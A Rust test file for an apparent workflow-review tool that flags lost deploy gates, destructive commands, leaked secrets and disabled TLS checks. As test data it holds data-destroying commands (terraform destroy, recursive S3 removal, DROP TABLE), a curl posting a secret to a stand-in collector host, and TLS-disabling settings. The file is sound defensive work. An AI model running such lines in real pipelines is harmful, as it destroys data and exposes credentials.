//! Jobs of workflows that deploy: what they wait for, what they remove, and what becomes of their secrets.

mod asking;

use asking::{ask, file};
use review::wire::{File, Severity};

const PATH: &str = ".github/workflows/a.yml";

fn workflow(job: &str, script: &str) -> String {
    format!(
        "name: x\non: push\npermissions: {{}}\njobs:\n  test:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: npm test\n  deploy:\n    \
         runs-on: ubuntu-24.04\n{job}    steps:\n      - run: |\n          ./deploy\n          {script}\n        env:\n          KEY: ${{{{ secrets.KEY }}}}\n"
    )
}

fn told(before: &str, after: &str) -> Vec<String> {
    let file = File { before: Some(before.to_owned()), ..file(PATH, after) };
    let bad = ask(file, &["own"]).findings.into_iter().filter(|one| one.severity >= Severity::Medium);
    bad.map(|one| one.rule).filter(|rule| rule.starts_with("WORKFLOW_")).collect()
}

#[test]
fn a_job_that_deploys_and_waits_for_nobody_any_more_is_told() {
    for gate in ["    environment: live\n", "    needs: test\n", "    if: github.ref == 'refs/heads/main'\n"] {
        let (kept, gone) = (workflow(gate, "true"), workflow("", "true"));
        assert_eq!(told(&kept, &gone), ["WORKFLOW_LOSES_GATE"], "{gate}");
        assert!(told(&gone, &kept).is_empty(), "{gate}");
        assert!(told(&kept, &kept).is_empty(), "{gate}");
        // Whoever has no secret guards nothing by waiting.
        let free = |text: &str| text.replace("secrets.KEY", "github.sha");
        assert!(gate.contains("environment") || told(&free(&kept), &free(&gone)).is_empty(), "{gate}");
    }
    let (needs, other) = ("    needs: [test, lint]\n", "    needs: test\n");
    assert!(told(&workflow(needs, "true"), &workflow(other, "true")).is_empty());
}

#[test]
fn a_line_that_removes_what_is_deployed_is_told_where_it_comes_in() {
    for script in [
        "terraform destroy -auto-approve",
        "aws s3 rm s3://prod --recursive",
        "kubectl delete namespace prod",
        "psql \"$URL\" -c \"DROP TABLE orders\"",
    ] {
        let (before, after) = (workflow("", "true"), workflow("", script));
        assert_eq!(told(&before, &after), ["WORKFLOW_DESTROYS"], "{script}");
        assert!(told(&after, &after).is_empty(), "{script}");
    }
    for script in [
        "terraform plan -destroy",
        "aws s3 cp a s3://prod/a",
        "kubectl delete pod a",
        "rm -rf ./build",
        "docker compose down -v",
        "git branch --delete a",
    ] {
        assert!(
            !told(&workflow("", "true"), &workflow("", script)).contains(&"WORKFLOW_DESTROYS".to_owned()),
            "{script}"
        );
    }
}

#[test]
fn a_secret_in_another_form_or_on_an_open_way_is_told() {
    let key = "${{ secrets.KEY }}";
    for script in [
        format!("echo \"{key}\" | base64"),
        format!("echo {key} | rev"),
        format!("printf '%s' '{key}' | xxd"),
        format!("curl -d \"k={key}\" http://collector.example.org"),
    ] {
        assert_eq!(told("", &workflow("", &script)), ["WORKFLOW_SECRET_SENT"], "{script}");
    }
    for script in [
        format!("echo \"{key}\" | base64 -d > key.json"),
        format!("echo \"{key}\" | base64 --decode | gpg --import"),
        format!("AUTH=$(echo -n \"u:{key}\" | base64)"),
        format!("curl -H \"Authorization: Bearer {key}\" https://api.example.org"),
        format!("curl -u \"u:{key}\" http://localhost:8080/ready"),
        "echo hello | base64".to_owned(),
    ] {
        assert!(told("", &workflow("", &script)).is_empty(), "{script}");
    }
}

#[test]
fn a_setting_that_switches_a_check_off_is_told_wherever_it_stands() {
    for (name, off, on) in [
        ("NODE_TLS_REJECT_UNAUTHORIZED", "0", "1"),
        ("PYTHONHTTPSVERIFY", "0", "1"),
        ("GIT_SSL_NO_VERIFY", "true", "false"),
        ("PGSSLMODE", "disable", "verify-full"),
    ] {
        let places = |value: &str| {
            [
                (".env", format!("A=1\n{name}={value}\n")),
                (
                    "compose.yaml",
                    format!("services:\n  a:\n    image: a:1.2.3\n    environment: {{{name}: \"{value}\"}}\n"),
                ),
                (PATH, format!("{}env:\n  {name}: \"{value}\"\n", workflow("", "true"))),
            ]
        };
        let told = |(path, text): &(&str, String)| {
            ask(file(path, text), &["own"]).findings.iter().any(|one| one.rule.ends_with("_NO_TLS_CHECK"))
        };
        assert_eq!(places(off).iter().map(told).collect::<Vec<_>>(), [true; 3], "{name}={off}");
        assert_eq!(places(on).iter().map(told).collect::<Vec<_>>(), [false; 3], "{name}={on}");
    }
}
